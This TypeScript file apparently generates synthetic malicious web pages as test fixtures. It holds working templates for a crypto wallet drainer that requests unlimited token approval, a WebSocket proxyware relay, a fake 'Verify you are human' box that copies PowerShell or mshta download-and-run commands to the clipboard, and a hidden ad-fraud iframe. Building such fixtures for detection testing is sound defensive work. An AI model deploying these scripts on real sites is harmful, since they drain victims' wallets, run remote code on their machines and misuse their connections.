import { addFrontPage } from '../site/page.ts'
import { html, lazy, script } from '../site/site.ts'
import { fillerScript } from '../text/filler.ts'
import { fileName, hostName, pathSegment } from '../text/identifiers.ts'
import { escapeHtml, paragraph } from '../text/prose.ts'
import { ScriptStyle, quoteSingle } from '../text/script.ts'
import type { Content } from './content.ts'

/** Asks to connect, is declined, and asks for the right to take tokens all the same. Does nothing where there is no wallet. */
export const walletDrainer: Content = {
  name: 'wallet drainer',
  kind: null,
  met: { needs: { wallet: true }, kind: 'drainer' },
  build(context) {
    const { random, host, plan } = context
    const draw = random.fork('drainer')
    const style = new ScriptStyle(draw.fork('style'))
    const file = `/${pathSegment(draw)}/${fileName(draw, 'js')}`
    const [token, spender, victim] = [draw.hex(40), draw.hex(40), draw.hex(40)]
    const call = `0x095ea7b3${'0'.repeat(24)}${spender}${'f'.repeat(64)}`
    const text = lazy(() =>
      style.render(
        `
var $wallet=window.ethereum;
function $permit(){
  var $message={'primaryType':'Permit','domain':{'name':'USD Coin','chainId':1},'message':{'spender':${quoteSingle(`0x${spender}`)},'value':${quoteSingle('f'.repeat(64))},'deadline':9999999999}};
  return $wallet.request({method:'eth_signTypedData_v4',params:[${quoteSingle(`0x${victim}`)},JSON.stringify($message)]});
}
function $take(){
  return $wallet.request({method:'eth_sendTransaction',params:[{from:${quoteSingle(`0x${victim}`)},to:${quoteSingle(`0x${token}`)},value:'0x0',data:${quoteSingle(call)}}]});
}
function $begin(){
  $wallet.request({method:'eth_requestAccounts'}).catch(function(){return [];}).then($take).catch($permit).catch(function(){});
}
if($wallet){setTimeout($begin,${draw.int(300, 1200)});}`,
        { isolate: true },
      ),
    )
    plan.resources.set(
      host + file,
      script(() => fillerScript(draw.fork('around'), 12_000) + text()),
    )
    addFrontPage(context, {
      title: 'Claim your allocation',
      article: () =>
        `<h1>The allocation is open</h1><p>${paragraph(draw.fork('p'))}</p><button id=claim>Check eligibility</button><p>Ends in 14 minutes.</p>`,
      bottom: () => `<script src="${file}"></script>`,
    })
  },
}

/** A stranger's script that fetches over the visitor's line what its socket orders, and hands in the answers. */
export const proxyTunnel: Content = {
  name: 'bandwidth seller',
  kind: 'proxyware',
  build(context) {
    const { random, plan, thirdParties, key } = context
    const draw = random.fork('proxyware')
    const style = new ScriptStyle(draw.fork('style'))
    const [kit, relay] = [hostName(draw, 'sdk'), hostName(draw, 'relay')]
    const file = `/${key}/${fileName(draw, 'js')}`
    const path = `/peer/${draw.hex(8)}`
    const targets = Array.from({ length: 6 }, (_, index) =>
      index % 2 === 0
        ? `https://${draw.pick(thirdParties.cdn)}/npm/${draw.hex(4)}@1.0.${index}/${fileName(draw, 'js')}`
        : `https://${draw.pick(thirdParties.analytics)}/a.js?id=${draw.hex(8)}`,
    )
    const text = lazy(() =>
      style.render(
        `
var $socket=new WebSocket(${quoteSingle(`wss://${relay}${path}`)});
$socket.onopen=function(){$socket.send(JSON.stringify({'type':'hello','version':'2.1','client':'web'}));};
$socket.onmessage=function($event){
  var $order=JSON.parse($event.data);
  if(!$order.url){return;}
  fetch($order.url,{method:$order.method,credentials:'omit'}).then(function($answer){
    return $answer.text().then(function($text){$socket.send(JSON.stringify({'id':$order.id,'status':$answer.status,'headers':{'content-type':$answer.headers.get('content-type')},'body':btoa(unescape(encodeURIComponent($text.slice(0,400))))}));});
  }).catch(function(){$socket.send(JSON.stringify({'id':$order.id,'error':'unreachable'}));});
};`,
        { isolate: true },
      ),
    )
    plan.resources.set(
      kit + file,
      script(() => fillerScript(draw.fork('around'), 8_000) + text()),
    )
    plan.sockets.set(relay + path, (peer) => {
      let at = 0
      peer.onMessage(() => undefined)
      peer.every(400, () => {
        const url = targets[at++ % targets.length]
        peer.send(JSON.stringify({ id: at, method: 'GET', url, headers: { accept: '*/*' } }))
      })
    })
    addFrontPage(context, { bottom: () => `<script async src="https://${kit}${file}"></script>` })
  },
}

/** A box that asks whether its reader is human, and how he is to show it: by pasting what the button wrote. */
export const fakeCaptcha: Content = {
  name: 'fake captcha that writes a command',
  kind: 'clipboard',
  build(context) {
    const { random, host, plan } = context
    const draw = random.fork('fake-captcha')
    // A command that is built of codes shows only when the button is pressed.
    const style = new ScriptStyle(draw.fork('style'), { strings: draw.pick(['plain', 'double', 'split']) })
    const file = `/${pathSegment(draw)}/${fileName(draw, 'js')}`
    const from = hostName(draw, 'verify')
    const command = draw.pick([
      `powershell -w hidden -c "iwr https://${from}/v.txt -useb | iex" # I am not a robot: ${draw.int(1000, 9999)}`,
      `mshta https://${from}/check.hta # Verification ID ${draw.int(100_000, 999_999)}`,
      `cmd /c start /min powershell -c "irm https://${from}/a | iex"`,
    ])
    const text = lazy(() =>
      style.render(
        `
var $command=${quoteSingle(command)},$box=document.querySelector('.human-check');
$box.querySelector('button').onclick=function(){
  navigator.clipboard.writeText($command);
  $box.classList.add('open');
};`,
        { isolate: true },
      ),
    )
    plan.resources.set(
      host + file,
      script(() => text()),
    )
    // A page with something to read: one that shows the question alone is a gate, and what lies behind it was not reached.
    const article = lazy(() => Array.from({ length: 12 }, (_, at) => `<p>${paragraph(draw.fork(at), 5)}</p>`).join('\n'))
    addFrontPage(context, {
      article: () => `<h1>How to repair a kitchen tap</h1>${article()}`,
      head: () => '<style>.human-check ol{display:none}.human-check.open ol{display:block}</style>',
      top: () =>
        `<div class="human-check" style="border:1px solid #999;padding:20px;max-width:420px;background:#fff"><h2>Verify you are human</h2><button>I'm not a robot</button><ol><li>Press the Windows button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>`,
      bottom: () => `<script src="${file}"></script>`,
    })
  },
}

/** A page far outside the window that shows advertisements to nobody. */
export const hiddenAdWorker: Content = {
  name: 'hidden advertisements',
  kind: 'ad-worker',
  build(context) {
    const { random, plan, thirdParties, key } = context
    const draw = random.fork('ad-worker')
    const farm = hostName(draw, 'partner')
    const path = `/w/${key}/${draw.hex(5)}`
    const units = Array.from({ length: 3 }, (_, index) => ({ host: draw.pick(thirdParties.ads), id: draw.hex(8), index }))
    plan.resources.set(
      farm + path,
      html(
        () =>
          `<!doctype html><meta charset=utf-8><title>Reviews</title><h1>${escapeHtml('Reviews')}</h1><p>${paragraph(draw.fork('p'))}</p>${units
            .map(
              ({ host, id, index }) =>
                `<iframe id="google_ads_iframe_/${index}" name="google_ads_iframe_/${index}" width=300 height=250 src="https://${host}/frame/${id}"></iframe>`,
            )
            .join('')}`,
      ),
    )
    const hidden = draw.pick([
      'position:absolute;left:-9000px;top:0;width:1100px;height:900px',
      'position:fixed;left:0;top:0;width:1px;height:1px;border:0',
    ])
    addFrontPage(context, {
      bottom: () =>
        `<script>(function(){var f=document.createElement("iframe");f.style.cssText=${JSON.stringify(hidden)};f.setAttribute("aria-hidden","true");f.src="https://${farm}${path}";document.body.appendChild(f)})();</script>`,
    })
  },
}
